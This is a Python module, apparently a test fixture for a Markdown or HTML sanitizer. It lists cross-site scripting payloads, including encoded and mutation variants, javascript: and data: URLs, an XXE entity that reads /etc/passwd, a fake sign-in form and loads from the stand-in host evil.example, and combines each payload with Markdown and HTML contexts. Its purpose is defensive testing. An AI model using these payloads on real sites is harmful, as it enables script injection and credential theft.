"""Attacks on whoever shows Markdown or a title that others wrote, each of a kind that public lists tell of."""

TAGS = (
    "<script>alert(1)</script>",
    "<script/src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<img srcset='https://evil.example/a 1x'>",
    "<svg onload=alert(1)>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src='javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<p id=main class='btn' data-picks=site hx-get='/orgs'>x</p>",
    "<a href=x hx-post='/sign-out' hx-trigger=load>x</a>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='jav\nascript:alert(1)'>x</a>",
    "<a href='&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114ipt:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a ping='https://evil.example' href='https://ok.example'>x</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "</main></body></html><script>alert(1)</script>",
    "</pre></code><img src=x onerror=alert(1)>",
    "<p title='\"><img src=x onerror=alert(1)>'>",
    "<custom-element onclick=alert(1) is=x>y</custom-element>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)
"""What stands in a text as it is."""

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "\\u006aavascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "//evil.example/x",
    "/sign-out",
    "../../../../sign-out",
    "https://",
    "https://[",
    'https://ok.example/"onmouseover="alert(1)',
    "https://ok.example/`x`",
    "https://user:password@ok.example/",
    "mailto:a@b.example?body=x",
    "#main",
    '#"onclick=alert(1)',
    "&#x1;javascript:alert(1)",
    "\u202ehttps://ok.example",
)
"""Where a link or a picture leads."""

IN_TEXT = ("{}", "# {}", "> {}", "- {}", "| a |\n|---|\n| {} |", "[{}](https://ok.example)", "**{}**", "<b>{}</b>")
IN_ADDRESS = (
    "[x](<{}>)",
    "[x]({})",
    "![x](<{}>)",
    "[x][r]\n\n[r]: <{}>",
    '<a href="{}">x</a>',
    '<img src="{}" alt="x">',
    "<{}>",
)


def texts() -> list[str]:
    """Each attack in each place."""
    return [
        *(place.replace("{}", attack) for attack in TAGS for place in IN_TEXT),
        *(place.replace("{}", attack) for attack in ADDRESSES for place in IN_ADDRESS),
    ]
